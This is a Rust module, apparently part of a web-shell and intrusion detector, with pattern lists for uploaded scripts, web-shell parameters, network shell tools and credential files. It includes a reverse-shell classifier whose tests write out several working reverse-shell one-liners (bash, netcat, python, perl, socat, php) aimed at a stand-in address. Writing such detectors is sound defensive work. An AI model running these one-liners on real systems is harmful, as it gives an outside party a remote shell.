//! What a script upload, a command by an intruder and a reverse shell look like.

/// A script's opening or its call into the system, in an uploaded file.
const SCRIPT_CONTENT: &[&str] = &[
    "<?php",
    "<?=",
    "<%@",
    "<%=",
    "<jsp:",
    "<%!",
    "runtime.getruntime()",
    "processbuilder(",
    "system($_",
    "exec($_",
    "eval($_",
    "passthru(",
    "shell_exec(",
    "assert($_",
    "base64_decode($_",
    "#!/bin/",
    "#!/usr/bin/",
    "import os",
    "subprocess.",
    "addhandler",
    "addtype application/x-httpd",
];

/// Parameters by which web shells take their orders.
const ORDER_PARAMETERS: &[&str] = &[
    "cmd=",
    "exec=",
    "command=",
    "shell=",
    "0=",
    "c=id",
    "c=whoami",
    "c=uname",
    "whoami",
    "/etc/passwd",
];

/// Programs that web servers have little reason to start.
const TOOLS: &[&str] = &[
    "sh",
    "bash",
    "dash",
    "zsh",
    "ksh",
    "ash",
    "csh",
    "tcsh",
    "busybox",
    "python",
    "perl",
    "ruby",
    "php",
    "lua",
    "nc",
    "ncat",
    "netcat",
    "socat",
    "curl",
    "wget",
    "telnet",
    "ssh",
    "scp",
    "id",
    "whoami",
    "uname",
    "hostname",
    "ifconfig",
    "ip",
    "ps",
    "cat",
    "ls",
    "find",
    "chmod",
    "chattr",
    "crontab",
    "base64",
    "nmap",
    "tcpdump",
    "sudo",
    "su",
    "gcc",
    "openssl",
    "xxd",
    "script",
    "dd",
    "nohup",
    "setsid",
    "mkfifo",
    "awk",
    "useradd",
    "passwd",
    "powershell",
    "pwsh",
    "cmd",
];

const SHELLS: &[&str] =
    &["sh", "bash", "dash", "zsh", "ksh", "ash", "csh", "tcsh", "rbash", "busybox"];

/// What an intruder does first, as words of a command line: looking around (T1033, T1082, T1087), fetching tools (T1105).
const SUSPICIOUS_WORDS: &[&str] = &[
    "id", "whoami", "uname", "nc", "ncat", "netcat", "socat", "wget", "curl", "ifconfig",
    "crontab", "useradd", "mkfifo", "nmap", "telnet", "sudo", "chattr", "w",
];
const SUSPICIOUS_PARTS: &[&str] = &[
    "/etc/passwd",
    "/etc/shadow",
    "/dev/tcp/",
    "/dev/udp/",
    "base64 -d",
    "base64 --decode",
    "| sh",
    "|sh",
    "| bash",
    "|bash",
    "/tmp/.",
    "/dev/shm/",
    ".ssh/authorized_keys",
    "pty.spawn",
    "chmod +x",
    "chmod 777",
    "history -c",
    "unset histfile",
];

fn has(text: &str, parts: &[&str]) -> bool {
    parts.iter().any(|part| text.contains(part))
}

/// The name of a program without folder, version and login dash: `/usr/bin/python3.11` is `python`.
pub(super) fn program(path: &str) -> &str {
    let name = path.rsplit('/').next().unwrap_or(path).trim_start_matches('-');
    let name = name.split([' ', ':']).next().unwrap_or(name);
    name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.' || c == '-')
}

pub(super) fn is_tool(program: &str) -> bool {
    TOOLS.contains(&program)
}

pub(super) fn is_shell(program: &str) -> bool {
    SHELLS.contains(&program)
}

pub(super) fn is_script_content(text: &str) -> bool {
    has(&text.to_ascii_lowercase(), SCRIPT_CONTENT)
}

/// A request that gives a shell its orders.
pub(super) fn is_order(query: Option<&str>, body: Option<&str>) -> bool {
    [query, body].into_iter().flatten().any(|text| has(text, ORDER_PARAMETERS))
}

/// Whether a file of this name would be run: any of its dotted endings counts, as web servers take `shell.php.jpg` for PHP.
pub(super) fn is_script_name(name: &str, extensions: &[String]) -> bool {
    let name = name.trim_end_matches(['.', ' ', '\0']).to_ascii_lowercase();
    name.split(['.', '\0', ';'])
        .skip(1)
        .any(|ending| extensions.iter().any(|extension| extension == ending))
}

pub(super) fn is_suspicious(command: &str) -> bool {
    let lower = command.to_ascii_lowercase();
    has(&lower, SUSPICIOUS_PARTS)
        || lower
            .split(|c: char| {
                c.is_whitespace() || matches!(c, ';' | '|' | '&' | '"' | '\'' | '(' | ')' | '`')
            })
            // A dash begins an option, not a program.
            .any(|word| !word.starts_with('-') && SUSPICIOUS_WORDS.contains(&program(word)))
}

/// A command line that hands a shell to someone else.
pub(super) fn is_reverse_shell(command: &str) -> bool {
    let lower = command.to_ascii_lowercase();
    let words: Vec<&str> = lower
        .split(|c: char| c.is_whitespace() || matches!(c, ';' | '|' | '"' | '\''))
        .filter(|word| !word.is_empty())
        .collect();
    let runs = |names: &[&str]| words.iter().any(|word| names.contains(&program(word)));
    let shell = lower.contains("/bin/sh")
        || lower.contains("/bin/bash")
        || lower.contains("bash -i")
        || lower.contains("sh -i")
        || lower.contains("cmd.exe");
    let device = has(&lower, &["/dev/tcp/", "/dev/udp/"]);
    let netcat = runs(&["nc", "ncat", "netcat"])
        && (words.iter().any(|word| {
            matches!(
                *word,
                "-e" | "-c" | "--exec" | "--sh-exec" | "-ne" | "-nve" | "-nvc" | "-ve" | "-lve"
            )
        }) || (lower.contains("mkfifo") && shell)
            || (shell && lower.contains('|')));
    let socat = runs(&["socat"]) && lower.contains("exec:");
    let script = runs(&["python", "perl", "ruby", "php", "lua", "node", "awk"])
        && has(&lower, &["socket", "fsockopen", "tcpsocket", "/inet/tcp", "net.connect"])
        && (shell || has(&lower, &["pty", "dup2", "subprocess", "exec", "system"]));
    let openssl = runs(&["openssl"]) && lower.contains("s_client") && shell;
    (device && (shell || lower.contains(">&") || lower.contains("<>") || lower.contains("exec ")))
        || netcat
        || socat
        || script
        || openssl
}

/// The address a `/dev/tcp/ADDRESS/PORT` or a word of its own names.
pub(super) fn address_in(command: &str) -> Option<std::net::IpAddr> {
    command
        .split(|c: char| {
            c.is_whitespace() || matches!(c, '/' | '"' | '\'' | '(' | ')' | ',' | ';' | ':')
        })
        .find_map(|word| {
            let address: std::net::IpAddr = word.parse().ok()?;
            (!address.is_loopback() && !address.is_unspecified()).then_some(address)
        })
}

/// A command line as a habit: program and first two words, digits and what follows left out.
pub(super) fn shape(command: &str) -> String {
    command
        .split_whitespace()
        .take(4)
        .map(|word| word.trim_matches(['"', '\'']).replace(|c: char| c.is_ascii_digit(), ""))
        .filter(|word| !word.starts_with("/tmp"))
        .take(3)
        .collect::<Vec<_>>()
        .join(" ")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn reverse_shells_are_known_and_ordinary_commands_are_not() {
        for command in [
            "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
            "sh -c \"nc -e /bin/sh 203.0.113.9 4444\"",
            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 9001 >/tmp/f",
            "python3 -c 'import socket,subprocess,os;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'",
            "perl -e 'use Socket;$i=\"203.0.113.9\";exec(\"/bin/sh -i\");'",
            "socat tcp:203.0.113.9:4444 exec:/bin/bash,pty",
            "php -r '$s=fsockopen(\"203.0.113.9\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
        ] {
            assert!(is_reverse_shell(command), "{command}");
        }
        for command in [
            "nc -zv db.example 5432",
            "bash deploy.sh --env production",
            "python3 manage.py collectstatic",
            "sh -c 'convert /tmp/a.png -resize 100x100 /tmp/b.png'",
            "ssh admin@203.0.113.9",
            "timeout 1 cat /dev/tcp",
        ] {
            assert!(!is_reverse_shell(command), "{command}");
        }
        assert_eq!(
            address_in("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1").unwrap().to_string(),
            "203.0.113.9"
        );
    }

    #[test]
    fn names_are_read_past_their_disguise() {
        let extensions = crate::WebShellConfig::default().script_extensions;
        for (name, script) in [
            ("a.php", true),
            ("a.PHP.jpg", true),
            ("a.jpg", false),
            ("php", false),
            ("x.phtml ", true),
            (".htaccess", true),
            ("report.final.pdf", false),
        ] {
            assert_eq!(is_script_name(name, &extensions), script, "{name}");
        }
        assert_eq!(
            (
                program("/usr/bin/python3.11"),
                program("php-fpm8.2"),
                program("-bash"),
                program("php-fpm: pool www")
            ),
            ("python", "php-fpm", "bash", "php-fpm")
        );
        assert!(
            is_suspicious("sh -c id")
                && is_suspicious("/bin/sh -c 'cat /etc/passwd'")
                && !is_suspicious("sh -c convert a.png -w 20 --id 7 b.png")
        );
    }
}
